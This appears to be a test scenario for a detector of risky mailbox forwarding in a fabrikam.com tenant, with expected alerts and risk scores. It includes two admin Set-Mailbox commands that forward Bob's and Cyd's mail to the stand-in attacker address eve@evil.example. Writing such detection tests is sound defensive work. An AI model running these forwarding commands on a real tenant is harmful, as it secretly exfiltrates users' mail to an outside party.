# Amy's rule sends mail to bob, whose mailbox itself forwards outside; cyd's goes there as well.
domain fabrikam.com
domain fabrikam.onmicrosoft.com
person amy "Amy Adams"
person bob "Bob Brown"
person cyd "Cyd Clark"
person root "Rita Root" admin

mon 09:00 amy makes rule "To bob" forward to bob
mon 09:05 root runs Set-Mailbox as admin Identity="bob" ForwardingSmtpAddress="smtp:eve@evil.example"
mon 09:10 root runs Set-Mailbox as admin Identity="cyd@fabrikam.com" ForwardingSmtpAddress="smtp:eve@evil.example"
expect mailbox-forwards-outside bob
expect mailbox-forwards-outside cyd
expect forward-chain amy risk 75 says "to bob@fabrikam.com, whose own forwarding sends everything on to eve@evil.example"
expect shared-destination eve@evil.example risk 85 says "2 mailboxes"
